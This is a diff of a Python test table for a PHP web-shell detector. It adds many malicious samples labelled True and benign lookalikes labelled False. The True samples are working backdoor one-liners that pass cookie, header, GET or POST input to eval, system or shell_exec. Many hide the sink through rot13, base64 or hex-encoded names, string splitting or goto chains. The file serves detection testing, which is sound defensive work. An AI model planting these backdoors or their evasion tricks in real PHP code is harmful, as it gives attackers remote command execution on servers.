+        embedded(
+            "<?php\nforeach (apache_request_headers() as $h => $v) {\n    if (stripos($h, 'x-') === 0) { @system($v); }\n}\n"
+        ),
+        True,
+    ),
+    # b:cookie_loop_call
+    ("SPAMGEAR_INPUT_LoopInputToSink", plain("<?php foreach ($_COOKIE as $k => $v) { $k($v); }\n"), True),
+    # b:cookie_loop_call
+    ("SPAMGEAR_INPUT_LoopInputToSink", padded("<?php foreach ($_COOKIE as $k => $v) { $k($v); }\n"), True),
+    # b:cookie_loop_call
+    ("SPAMGEAR_INPUT_LoopInputToSink", embedded("<?php foreach ($_COOKIE as $k => $v) { $k($v); }\n"), True),
+    # b:extract_and_call
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", plain("<?php\nextract($_GET);\n$x && $y($x);\n"), True),
+    # b:extract_and_call
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php\nextract($_GET);\n$x && $y($x);\n"), True),
+    # b:extract_and_call
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", embedded("<?php\nextract($_GET);\n$x && $y($x);\n"), True),
+    # b:extract_overwrite
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        plain("<?php\nextract($_POST, EXTR_OVERWRITE);\n$func($param);\n"),
+        True,
+    ),
+    # b:extract_overwrite
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded("<?php\nextract($_POST, EXTR_OVERWRITE);\n$func($param);\n"),
+        True,
+    ),
+    # b:extract_overwrite
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        embedded("<?php\nextract($_POST, EXTR_OVERWRITE);\n$func($param);\n"),
+        True,
+    ),
+    # b:curly_spaced_req
+    (
+        "SPAMGEAR_OBFUSC_SplitSuperglobal",
+        plain("<?php ${'_' . 'REQUEST'}['f'](${'_' . 'REQUEST'}['p']);\n"),
+        True,
+    ),
+    # b:curly_spaced_req
+    (
+        "SPAMGEAR_OBFUSC_SplitSuperglobal",
+        padded("<?php ${'_' . 'REQUEST'}['f'](${'_' . 'REQUEST'}['p']);\n"),
+        True,
+    ),
+    # b:curly_spaced_req
+    (
+        "SPAMGEAR_OBFUSC_SplitSuperglobal",
+        embedded("<?php ${'_' . 'REQUEST'}['f'](${'_' . 'REQUEST'}['p']);\n"),
+        True,
+    ),
+    # b:curly_cookie_alias
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        plain("<?php\n$s = ${'_'.'COOKIE'};\neval(base64_decode($s['d']));\n"),
+        True,
+    ),
+    # b:curly_cookie_alias
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        padded("<?php\n$s = ${'_'.'COOKIE'};\neval(base64_decode($s['d']));\n"),
+        True,
+    ),
+    # b:curly_cookie_alias
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        embedded("<?php\n$s = ${'_'.'COOKIE'};\neval(base64_decode($s['d']));\n"),
+        True,
+    ),
+    # b:globals_concat
+    ("SPAMGEAR_OBFUSC_SplitSuperglobalName", plain("<?php eval($GLOBALS['_'.'POST']['x']);\n"), True),
+    # b:globals_concat
+    ("SPAMGEAR_OBFUSC_SplitSuperglobalName", padded("<?php eval($GLOBALS['_'.'POST']['x']);\n"), True),
+    # b:globals_concat
+    ("SPAMGEAR_OBFUSC_SplitSuperglobalName", embedded("<?php eval($GLOBALS['_'.'POST']['x']);\n"), True),
+    # b:varvar_name_eval
+    ("SPAMGEAR_OBFUSC_SplitSuperglobalName", plain("<?php\n$v = '_' . 'GET';\neval(${$v}['c']);\n"), True),
+    # b:varvar_name_eval
+    ("SPAMGEAR_OBFUSC_SplitSuperglobalName", padded("<?php\n$v = '_' . 'GET';\neval(${$v}['c']);\n"), True),
+    # b:varvar_name_eval
+    ("SPAMGEAR_OBFUSC_SplitSuperglobalName", embedded("<?php\n$v = '_' . 'GET';\neval(${$v}['c']);\n"), True),
+    # b:goto_shell
+    (
+        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
+        plain(
+            "<?php\ngoto x9;\nk2: $c = $_REQUEST['c']; goto m3;\nx9: $o = ''; goto k2;\nm3: $o = shell_exec($c); goto z1;\nz1: echo $o;\n"
+        ),
+        True,
+    ),
+    # b:goto_shell
+    (
+        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
+        padded(
+            "<?php\ngoto x9;\nk2: $c = $_REQUEST['c']; goto m3;\nx9: $o = ''; goto k2;\nm3: $o = shell_exec($c); goto z1;\nz1: echo $o;\n"
+        ),
+        True,
+    ),
+    # b:goto_shell
+    (
+        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
+        embedded(
+            "<?php\ngoto x9;\nk2: $c = $_REQUEST['c']; goto m3;\nx9: $o = ''; goto k2;\nm3: $o = shell_exec($c); goto z1;\nz1: echo $o;\n"
+        ),
+        True,
+    ),
+    # b:goto_literal
+    (
+        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
+        plain(
+            "<?php\ngoto a;\nb: eval($s); goto c;\na: $s = gzinflate(base64_decode('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA')); goto b;\nc: echo '';\n"
+        ),
+        True,
+    ),
+    # b:goto_literal
+    (
+        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
+        padded(
+            "<?php\ngoto a;\nb: eval($s); goto c;\na: $s = gzinflate(base64_decode('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA')); goto b;\nc: echo '';\n"
+        ),
+        True,
+    ),
+    # b:goto_literal
+    (
+        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
+        embedded(
+            "<?php\ngoto a;\nb: eval($s); goto c;\na: $s = gzinflate(base64_decode('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA')); goto b;\nc: echo '';\n"
+        ),
+        True,
+    ),
+    # b:O0_concat_names
+    (
+        "SPAMGEAR_EVASION_EvalOfVariableCall",
+        plain(
+            "<?php\n$O0O = 'str_'.'rot13';\n$OO0 = 'base64_'.'decode';\neval($O0O($OO0('QGZsZmdyeigkX1RSR1sicCJdKTsgcnB1YiAiYngiOw==')));\n"
+        ),
+        True,
+    ),
+    # b:O0_concat_names
+    (
+        "SPAMGEAR_EVASION_EvalOfVariableCall",
+        padded(
+            "<?php\n$O0O = 'str_'.'rot13';\n$OO0 = 'base64_'.'decode';\neval($O0O($OO0('QGZsZmdyeigkX1RSR1sicCJdKTsgcnB1YiAiYngiOw==')));\n"
+        ),
+        True,
+    ),
+    # b:O0_concat_names
+    (
+        "SPAMGEAR_EVASION_EvalOfVariableCall",
+        embedded(
+            "<?php\n$O0O = 'str_'.'rot13';\n$OO0 = 'base64_'.'decode';\neval($O0O($OO0('QGZsZmdyeigkX1RSR1sicCJdKTsgcnB1YiAiYngiOw==')));\n"
+        ),
+        True,
+    ),
+    # b:implode_letters
+    (
+        "SPAMGEAR_OBFUSC_InputToVariableFunction",
+        plain("<?php\n$n = implode('', array('a','s','s','e','r','t'));\n$n($_POST['x']);\n"),
+        True,
+    ),
+    # b:implode_letters
+    (
+        "SPAMGEAR_OBFUSC_InputToVariableFunction",
+        padded("<?php\n$n = implode('', array('a','s','s','e','r','t'));\n$n($_POST['x']);\n"),
+        True,
+    ),
+    # b:rot13_name
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        plain("<?php\n$n = str_rot13('nffreg');\n$n(stripslashes($_REQUEST['x']));\n"),
+        True,
+    ),
+    # b:rot13_name
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        padded("<?php\n$n = str_rot13('nffreg');\n$n(stripslashes($_REQUEST['x']));\n"),
+        True,
+    ),
+    # b:rot13_name
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        embedded("<?php\n$n = str_rot13('nffreg');\n$n(stripslashes($_REQUEST['x']));\n"),
+        True,
+    ),
+    # b:b64_name
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        plain("<?php\n$n = base64_decode('c3lzdGVt');\n$n($_GET['c']);\n"),
+        True,
+    ),
+    # b:b64_name
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        padded("<?php\n$n = base64_decode('c3lzdGVt');\n$n($_GET['c']);\n"),
+        True,
+    ),
+    # b:b64_name
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        embedded("<?php\n$n = base64_decode('c3lzdGVt');\n$n($_GET['c']);\n"),
+        True,
+    ),
+    # b:hex2bin_name
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        plain("<?php\n$n = hex2bin('73797374656d');\n@$n($_GET['c']);\n"),
+        True,
+    ),
+    # b:hex2bin_name
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        padded("<?php\n$n = hex2bin('73797374656d');\n@$n($_GET['c']);\n"),
+        True,
+    ),
+    # b:hex2bin_name
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        embedded("<?php\n$n = hex2bin('73797374656d');\n@$n($_GET['c']);\n"),
+        True,
+    ),
+    # b:pack_name
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        plain("<?php\n$n = pack('H*', '617373657274');\n$n($_POST['x']);\n"),
+        True,
+    ),
+    # b:pack_name
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        padded("<?php\n$n = pack('H*', '617373657274');\n$n($_POST['x']);\n"),
+        True,
+    ),
+    # b:pack_name
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        embedded("<?php\n$n = pack('H*', '617373657274');\n$n($_POST['x']);\n"),
+        True,
+    ),
+    # b:array_map_req
+    ("SPAMGEAR_INPUT_InputAsFunction", plain("<?php array_map($_GET['f'], array($_GET['a']));\n"), True),
+    # b:array_map_req
+    ("SPAMGEAR_INPUT_InputAsFunction", padded("<?php array_map($_GET['f'], array($_GET['a']));\n"), True),
+    # b:array_map_req
+    ("SPAMGEAR_INPUT_InputAsFunction", embedded("<?php array_map($_GET['f'], array($_GET['a']));\n"), True),
+    # b:cuf_req
+    (
+        "SPAMGEAR_INPUT_InputAsFunction",
+        plain("<?php call_user_func($_REQUEST['f'], $_REQUEST['a']);\n"),
+        True,
+    ),
+    # b:cuf_req
+    (
+        "SPAMGEAR_INPUT_InputAsFunction",
+        padded("<?php call_user_func($_REQUEST['f'], $_REQUEST['a']);\n"),
+        True,
+    ),
+    # b:cuf_req
+    (
+        "SPAMGEAR_INPUT_InputAsFunction",
+        embedded("<?php call_user_func($_REQUEST['f'], $_REQUEST['a']);\n"),
+        True,
+    ),
+    # b:array_filter_cbvar
+    (
+        "SPAMGEAR_INPUT_InputCallbackVar",
+        plain("<?php\n$cb = $_GET['cb'];\n$arr = array($_GET['a']);\narray_filter($arr, $cb);\n"),
+        True,
+    ),
+    # b:array_filter_cbvar
+    (
+        "SPAMGEAR_INPUT_InputCallbackVar",
+        padded("<?php\n$cb = $_GET['cb'];\n$arr = array($_GET['a']);\narray_filter($arr, $cb);\n"),
+        True,
+    ),
+    # b:array_filter_cbvar
+    (
+        "SPAMGEAR_INPUT_InputCallbackVar",
+        embedded("<?php\n$cb = $_GET['cb'];\n$arr = array($_GET['a']);\narray_filter($arr, $cb);\n"),
+        True,
+    ),
+    # b:escaped_eval_code
+    ("SPAMGEAR_INPUT_EvalOfInput", plain("<?php eval(\"\\x65\\x76\\x61\\x6c(\\$_POST['x']);\");\n"), True),
+    # b:escaped_eval_code
+    ("SPAMGEAR_INPUT_EvalOfInput", padded("<?php eval(\"\\x65\\x76\\x61\\x6c(\\$_POST['x']);\");\n"), True),
+    # b:escaped_eval_code
+    ("SPAMGEAR_INPUT_EvalOfInput", embedded("<?php eval(\"\\x65\\x76\\x61\\x6c(\\$_POST['x']);\");\n"), True),
+    # b:octal_eval_code
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        plain('<?php eval("\\145\\166\\141\\154(base64_decode(\\$_REQUEST[z]));");\n'),
+        True,
+    ),
+    # b:octal_eval_code
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        padded('<?php eval("\\145\\166\\141\\154(base64_decode(\\$_REQUEST[z]));");\n'),
+        True,
+    ),
+    # b:octal_eval_code
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        embedded('<?php eval("\\145\\166\\141\\154(base64_decode(\\$_REQUEST[z]));");\n'),
+        True,
+    ),
+    # b:hex_create_fn
+    (
+        "SPAMGEAR_OBFUSC_EscapedSinkName",
+        plain(
+            "<?php\n$f = \"\\x63\\x72\\x65\\x61\\x74\\x65\\x5f\\x66\\x75\\x6e\\x63\\x74\\x69\\x6f\\x6e\";\n$g = $f('', $_POST['x']);\n$g();\n"
+        ),
+        True,
+    ),
+    # b:hex_create_fn
+    (
+        "SPAMGEAR_OBFUSC_EscapedSinkName",
+        padded(
+            "<?php\n$f = \"\\x63\\x72\\x65\\x61\\x74\\x65\\x5f\\x66\\x75\\x6e\\x63\\x74\\x69\\x6f\\x6e\";\n$g = $f('', $_POST['x']);\n$g();\n"
+        ),
+        True,
+    ),
+    # b:hex_create_fn
+    (
+        "SPAMGEAR_OBFUSC_EscapedSinkName",
+        embedded(
+            "<?php\n$f = \"\\x63\\x72\\x65\\x61\\x74\\x65\\x5f\\x66\\x75\\x6e\\x63\\x74\\x69\\x6f\\x6e\";\n$g = $f('', $_POST['x']);\n$g();\n"
+        ),
+        True,
+    ),
+    # b:concat_create_fn4
+    (
+        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        plain('<?php\n$x = "cr" . "eat" . "e_fun" . "ction";\n$y = $x(\'$a\', $_REQUEST[\'c\']);\n$y(1);\n'),
+        True,
+    ),
+    # b:concat_create_fn4
+    (
+        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        padded('<?php\n$x = "cr" . "eat" . "e_fun" . "ction";\n$y = $x(\'$a\', $_REQUEST[\'c\']);\n$y(1);\n'),
+        True,
+    ),
+    # b:concat_create_fn4
+    (
+        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        embedded(
+            '<?php\n$x = "cr" . "eat" . "e_fun" . "ction";\n$y = $x(\'$a\', $_REQUEST[\'c\']);\n$y(1);\n'
+        ),
+        True,
+    ),
+    # b:closure_use
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        plain(
+            "<?php\n$c = $_GET['c'];\n$run = function() use ($c) { return shell_exec($c); };\necho $run();\n"
+        ),
+        True,
+    ),
+    # b:closure_use
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        padded(
+            "<?php\n$c = $_GET['c'];\n$run = function() use ($c) { return shell_exec($c); };\necho $run();\n"
+        ),
+        True,
+    ),
+    # b:closure_use
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        embedded(
+            "<?php\n$c = $_GET['c'];\n$run = function() use ($c) { return shell_exec($c); };\necho $run();\n"
+        ),
+        True,
+    ),
+    # b:ternary_eval
+    ("SPAMGEAR_FAMILY_ChinaChopper", plain("<?php isset($_POST['e']) ? eval($_POST['e']) : null;\n"), True),
+    # b:ternary_eval
+    ("SPAMGEAR_INPUT_EvalOfInput", padded("<?php isset($_POST['e']) ? eval($_POST['e']) : null;\n"), True),
+    # b:ternary_eval
+    ("SPAMGEAR_INPUT_EvalOfInput", embedded("<?php isset($_POST['e']) ? eval($_POST['e']) : null;\n"), True),
+    # b:if_oneline_b64
+    (
+        "SPAMGEAR_EVASION_AltInputToSink",
+        plain(
+            "<?php if (!empty($_SERVER['HTTP_X_TOKEN'])) @eval(base64_decode($_SERVER['HTTP_X_TOKEN']));\n"
+        ),
+        True,
+    ),
+    # b:if_oneline_b64
+    (
+        "SPAMGEAR_EVASION_AltInputToSink",
+        padded(
+            "<?php if (!empty($_SERVER['HTTP_X_TOKEN'])) @eval(base64_decode($_SERVER['HTTP_X_TOKEN']));\n"
+        ),
+        True,
+    ),
+    # b:if_oneline_b64
+    (
+        "SPAMGEAR_EVASION_AltInputToSink",
+        embedded(
+            "<?php if (!empty($_SERVER['HTTP_X_TOKEN'])) @eval(base64_decode($_SERVER['HTTP_X_TOKEN']));\n"
+        ),
+        True,
+    ),
+    # b:reflection_decoded
+    (
+        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
+        plain("<?php\n$r = new ReflectionFunction(base64_decode('c3lzdGVt'));\n$r->invoke($_GET['c']);\n"),
+        True,
+    ),
+    # b:reflection_decoded
+    (
+        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
+        padded("<?php\n$r = new ReflectionFunction(base64_decode('c3lzdGVt'));\n$r->invoke($_GET['c']);\n"),
+        True,
+    ),
+    # b:reflection_decoded
+    (
+        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
+        embedded("<?php\n$r = new ReflectionFunction(base64_decode('c3lzdGVt'));\n$r->invoke($_GET['c']);\n"),
+        True,
+    ),
+    # b:array_reduce_cb
+    ("SPAMGEAR_INPUT_SinkNameAsCallback", plain("<?php array_reduce(array($_POST['x']), 'assert');\n"), True),
+    # b:array_reduce_cb
+    (
+        "SPAMGEAR_INPUT_SinkNameAsCallback",
+        padded("<?php array_reduce(array($_POST['x']), 'assert');\n"),
+        True,
+    ),
+    # b:array_reduce_cb
+    (
+        "SPAMGEAR_INPUT_SinkNameAsCallback",
+        embedded("<?php array_reduce(array($_POST['x']), 'assert');\n"),
+        True,
+    ),
+    # b:iterator_closure
+    (
+        "SPAMGEAR_EVASION_EvalOfStoredOrStreamed",
+        plain(
+            "<?php iterator_apply($it = new ArrayIterator(array($_POST['x'])), function() use (&$it) { eval($it->current()); return false; }, array());\n"
+        ),
+        True,
+    ),
+    # b:iterator_closure
+    (
+        "SPAMGEAR_EVASION_EvalOfStoredOrStreamed",
+        padded(
+            "<?php iterator_apply($it = new ArrayIterator(array($_POST['x'])), function() use (&$it) { eval($it->current()); return false; }, array());\n"
+        ),
+        True,
+    ),
+    # b:iterator_closure
+    (
+        "SPAMGEAR_EVASION_EvalOfStoredOrStreamed",
+        embedded(
+            "<?php iterator_apply($it = new ArrayIterator(array($_POST['x'])), function() use (&$it) { eval($it->current()); return false; }, array());\n"
+        ),
+        True,
+    ),
+    # b:uasort_req_cb
+    (
+        "SPAMGEAR_INPUT_InputAsFunction",
+        plain("<?php\n$d = array($_REQUEST['a'] => 1, 'b' => 2);\nuasort($d, $_REQUEST['f']);\n"),
+        True,
+    ),
+    # b:uasort_req_cb
+    (
+        "SPAMGEAR_INPUT_InputAsFunction",
+        padded("<?php\n$d = array($_REQUEST['a'] => 1, 'b' => 2);\nuasort($d, $_REQUEST['f']);\n"),
+        True,
+    ),
+    # b:uasort_req_cb
+    (
+        "SPAMGEAR_INPUT_InputAsFunction",
+        embedded("<?php\n$d = array($_REQUEST['a'] => 1, 'b' => 2);\nuasort($d, $_REQUEST['f']);\n"),
+        True,
+    ),
     (
         "SPAMGEAR_OBFUSC_DecodedVarEval",
         plain(
@@ -1713,6 +2765,159 @@ CASES: list[tuple[str, bytes, bool]] = [
     (
         "SPAMGEAR_OBFUSC_Base64SinkLiteral",
         embedded("<?php\n$label = base64_decode('c3lzdGVtX2luZm8=');\necho $label;\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_LoopInputToSink",
+        plain("<?php\nforeach ($_POST as $k => $v) { $clean[$k] = trim($v); }\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_LoopInputToSink",
+        padded("<?php\nforeach ($_POST as $k => $v) { $clean[$k] = trim($v); }\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_LoopInputToSink",
+        embedded("<?php\nforeach ($_POST as $k => $v) { $clean[$k] = trim($v); }\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_LoopInputToSink",
+        plain("<?php\nforeach (getallheaders() as $name => $value) { header($name . ': ' . $value); }\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_LoopInputToSink",
+        padded("<?php\nforeach (getallheaders() as $name => $value) { header($name . ': ' . $value); }\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_LoopInputToSink",
+        embedded("<?php\nforeach (getallheaders() as $name => $value) { header($name . ': ' . $value); }\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_LoopInputToSink",
+        plain("<?php\nforeach ($_GET as $k => $v) { $this->$k($v); }\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_LoopInputToSink",
+        padded("<?php\nforeach ($_GET as $k => $v) { $this->$k($v); }\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_LoopInputToSink",
+        embedded("<?php\nforeach ($_GET as $k => $v) { $this->$k($v); }\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_InputCallbackVar",
+        plain(
+            "<?php\n$order = $_GET['order'];\n$cmp = $order === 'asc' ? 'cmp_asc' : 'cmp_desc';\nusort($rows, $cmp);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_InputCallbackVar",
+        padded(
+            "<?php\n$order = $_GET['order'];\n$cmp = $order === 'asc' ? 'cmp_asc' : 'cmp_desc';\nusort($rows, $cmp);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_InputCallbackVar",
+        embedded(
+            "<?php\n$order = $_GET['order'];\n$cmp = $order === 'asc' ? 'cmp_asc' : 'cmp_desc';\nusort($rows, $cmp);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_InputCallbackVar",
+        plain("<?php\n$q = trim($_GET['q']);\n$rows = array_filter($rows, $matcher);\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_InputCallbackVar",
+        padded("<?php\n$q = trim($_GET['q']);\n$rows = array_filter($rows, $matcher);\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_InputCallbackVar",
+        embedded("<?php\n$q = trim($_GET['q']);\n$rows = array_filter($rows, $matcher);\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_SplitSuperglobalName",
+        plain("<?php\n$name = '_' . 'GET_PARAMS';\n$key = '_' . 'id';\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_SplitSuperglobalName",
+        padded("<?php\n$name = '_' . 'GET_PARAMS';\n$key = '_' . 'id';\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_SplitSuperglobalName",
+        embedded("<?php\n$name = '_' . 'GET_PARAMS';\n$key = '_' . 'id';\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        plain("<?php\n$w = 'crea' . 'tion';\n$x = 'cre' . 'dit' . 's';\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        padded("<?php\n$w = 'crea' . 'tion';\n$x = 'cre' . 'dit' . 's';\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        embedded("<?php\n$w = 'crea' . 'tion';\n$x = 'cre' . 'dit' . 's';\n"),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_HelperSinkOfInput",
+        plain(
+            "<?php\nclass Out { static function e($s) { echo htmlspecialchars($s); } }\nOut::e($_GET['q']);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_HelperSinkOfInput",
+        padded(
+            "<?php\nclass Out { static function e($s) { echo htmlspecialchars($s); } }\nOut::e($_GET['q']);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_HelperSinkOfInput",
+        embedded(
+            "<?php\nclass Out { static function e($s) { echo htmlspecialchars($s); } }\nOut::e($_GET['q']);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        plain(
+            "<?php\n$out = preg_replace_callback('/\\{php\\}(.*?)\\{\\/php\\}/s', function($m) { return eval($m[1]); }, $template);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        padded(
+            "<?php\n$out = preg_replace_callback('/\\{php\\}(.*?)\\{\\/php\\}/s', function($m) { return eval($m[1]); }, $template);\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_ClosureSinkOfInput",
+        embedded(
+            "<?php\n$out = preg_replace_callback('/\\{php\\}(.*?)\\{\\/php\\}/s', function($m) { return eval($m[1]); }, $template);\n"
+        ),
         False,
     ),
 ]
